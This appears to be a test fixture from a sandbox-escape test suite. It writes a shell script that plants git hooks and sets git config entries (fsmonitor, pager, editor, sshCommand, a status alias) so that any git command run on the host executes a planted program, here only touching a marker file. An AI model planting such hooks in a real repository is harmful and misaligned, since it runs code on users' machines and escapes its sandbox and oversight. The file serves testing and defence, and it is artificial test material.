"""Has git run a program whenever somebody on the host asks it what changed."""

from __future__ import annotations

from tests.cheats.planted import OWNED

FAMILY = "host_git"
SCRIPT = rf"""
cd /workspace
printf '#!/bin/sh\ntouch {OWNED}\n' > .git/hooks/pre-commit
for hook in post-index-change post-checkout pre-auto-gc fsmonitor-watchman reference-transaction; do
  cp .git/hooks/pre-commit .git/hooks/$hook
done
chmod +x .git/hooks/*
cp .git/hooks/pre-commit /tmp/run && chmod +x /tmp/run
git config core.fsmonitor "touch {OWNED}; false"
git config core.hooksPath .git/hooks
git config core.pager "touch {OWNED}"
git config core.editor "touch {OWNED}"
git config core.sshCommand "touch {OWNED}"
git config alias.status "!touch {OWNED}"
echo '# looked at' >> src/toy/core.py
"""
